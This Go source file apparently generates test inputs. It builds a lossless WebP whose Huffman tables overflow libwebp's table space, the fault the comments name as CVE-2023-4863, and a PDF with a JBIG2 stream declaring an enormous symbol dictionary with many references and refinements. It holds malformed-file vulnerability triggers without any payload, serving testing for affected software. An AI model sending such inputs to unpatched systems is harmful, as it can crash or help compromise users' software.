package testevidence

import (
	"bytes"
	"encoding/binary"
	"fmt"
)

// bitWriter writes numbers, the lowest bit first, as a lossless WebP has them.
type bitWriter struct {
	out []byte
	n   int
}

func (w *bitWriter) put(v uint32, bits int) {
	for i := range bits {
		if w.n%8 == 0 {
			w.out = append(w.out, 0)
		}
		w.out[w.n/8] |= byte(v>>i&1) << (w.n % 8)
		w.n++
	}
}

// The numbers of code words by their length, of the largest tables that a
// complete code of 280, 256 and 40 symbols can need (654, 630 and 410 entries),
// and of a code of 40 that is not complete and needs 414. Found by search; the
// sizes are those of libwebp's table of sizes (RFC 9649 has the codes).
var (
	code280     = [16]int{2: 2, 9: 239, 10: 33, 11: 1, 12: 1, 13: 1, 14: 1, 15: 2}
	code256     = [16]int{1: 1, 2: 1, 9: 7, 10: 241, 11: 1, 12: 1, 13: 1, 14: 1, 15: 2}
	code40      = [16]int{1: 1, 2: 1, 3: 1, 4: 1, 7: 2, 9: 19, 10: 9, 11: 1, 12: 1, 13: 1, 14: 1, 15: 2}
	code40Short = [16]int{1: 1, 2: 1, 3: 1, 4: 1, 5: 1, 9: 11, 10: 5, 11: 1, 12: 10, 13: 4, 14: 2, 15: 2}
)

// code writes a code with the lengths in a code of their own, four bits each.
func (w *bitWriter) code(counts [16]int) {
	w.put(0, 1)    // not a simple code
	w.put(19-4, 4) // all lengths of the code of lengths
	for _, symbol := range []int{17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15} {
		if symbol < 16 {
			w.put(4, 3)
		} else {
			w.put(0, 3)
		}
	}
	w.put(0, 1) // as many lengths as symbols
	for length, n := range counts {
		for range n {
			for bit := 3; bit >= 0; bit-- { // words are written from their first bit
				w.put(uint32(length>>bit)&1, 1)
			}
		}
	}
}

// WebPTables makes the header and the codes of a lossless WebP picture of one
// pixel whose tables need all the room that libwebp had for them, or, with
// overflow, four entries more: the fault of CVE-2023-4863 and nothing that
// would use it. No pixels follow.
func WebPTables(overflow bool) []byte {
	w := new(bitWriter)
	w.put(0x2f, 8)
	w.put(0, 14+14+1+3) // one pixel, no alpha, version 0
	w.put(0, 1)         // no transform
	w.put(0, 1)         // no cache of colors
	w.put(0, 1)         // one group of codes
	w.code(code280)
	for range 3 {
		w.code(code256)
	}
	if overflow {
		w.code(code40Short)
	} else {
		w.code(code40)
	}
	return riff("VP8L", w.out)
}

// riff wraps a chunk of a WebP file
// (https://developers.google.com/speed/webp/docs/riff_container).
func riff(id string, data []byte) []byte {
	if len(data)%2 == 1 {
		data = append(data, 0)
	}
	body := append([]byte("WEBP"+id), binary.LittleEndian.AppendUint32(nil, uint32(len(data)))...)
	body = append(body, data...)
	return append(binary.LittleEndian.AppendUint32([]byte("RIFF"), uint32(len(body))), body...)
}

// jbig2Segment writes a segment (ITU-T T.88, 7.2) with references of a byte.
func jbig2Segment(number uint32, kind byte, refs []byte, body []byte) []byte {
	out := append(binary.BigEndian.AppendUint32(nil, number), kind)
	if len(refs) <= 4 {
		out = append(out, byte(len(refs))<<5)
	} else {
		out = binary.BigEndian.AppendUint32(out, 7<<29|uint32(len(refs)))
		out = append(out, make([]byte, (len(refs)+8)/8)...)
	}
	out = append(out, refs...)
	out = append(out, 1) // the page
	return append(binary.BigEndian.AppendUint32(out, uint32(len(body))), body...)
}

// JBIG2PDF makes a PDF with a picture in JBIG2: a dictionary that says it has
// half of all symbols that 32 bits count, a text region that refers to it so
// many times, and refinements. There is no data for a decoder in it.
func JBIG2PDF(references, refinements int) []byte {
	dictionary := append(make([]byte, 2+8), 0x80, 0, 0, 0, 0, 0, 0, 0) // flags, adaptive pixels, exported, new
	shared := jbig2Segment(1, 0, nil, dictionary)
	picture := jbig2Segment(2, 6, bytes.Repeat([]byte{1}, references), make([]byte, 17))
	for i := range refinements {
		picture = append(picture, jbig2Segment(uint32(3+i), 42, nil, make([]byte, 18))...)
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "%%PDF-1.3\n4 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n", len(shared), shared)
	fmt.Fprintf(&b, "5 0 obj\n<</Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /JBIG2Decode /DecodeParms <</JBIG2Globals 4 0 R>> /Length %d>>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n",
		len(picture), picture)
	return b.Bytes()
}
